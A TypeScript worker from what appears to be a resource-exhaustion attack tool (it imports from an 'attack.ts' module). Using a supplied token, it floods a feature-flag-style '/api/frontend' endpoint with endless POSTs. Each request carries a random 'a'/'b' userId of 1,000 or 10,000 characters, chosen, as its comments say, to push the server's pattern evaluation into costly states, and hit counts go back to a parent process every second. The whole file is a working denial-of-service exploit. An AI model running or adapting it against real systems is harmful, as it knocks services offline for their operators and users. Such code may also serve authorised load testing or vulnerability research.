// The process that asks for costly evaluations. It gets its plan from the parent and reports once a second.
import { request } from 'undici';
import type { Report } from './attack.ts';

export interface EvaluationPlan {
  url: string;
  frontendToken: string;
  connections: number;
}

/** For patterns of these letters, almost every letter of a random text leads to a state that they have not met yet. */
const letters = ['a', 'b'];

/** As long as a pattern compares, and as long as a context allows. */
const lengths = [1_000, 10_000];

const report: Report = { open: 0, opened: {} };

function randomText(length: number): string {
  return Array.from({ length }, () => letters[Math.floor(Math.random() * letters.length)]).join('');
}

async function evaluateForever({ url, frontendToken }: EvaluationPlan, length: number): Promise<never> {
  for (;;) {
    const { statusCode, body } = await request(`${url}/api/frontend`, {
      method: 'POST',
      headers: { authorization: frontendToken, 'content-type': 'application/json' },
      body: JSON.stringify({ context: { userId: randomText(length) } }),
    });
    await body.dump();
    const kind = `evaluations of ${length} letters with status ${statusCode}`;
    report.opened[kind] = (report.opened[kind] ?? 0) + 1;
  }
}

process.once('message', (message) => {
  const plan = message as EvaluationPlan;
  report.open = plan.connections;
  for (let index = 0; index < plan.connections; index += 1) {
    void evaluateForever(plan, lengths[index % lengths.length]!);
  }
  setInterval(() => process.send!(report), 1_000);
});
// The parent has ended.
process.on('disconnect', () => process.exit());
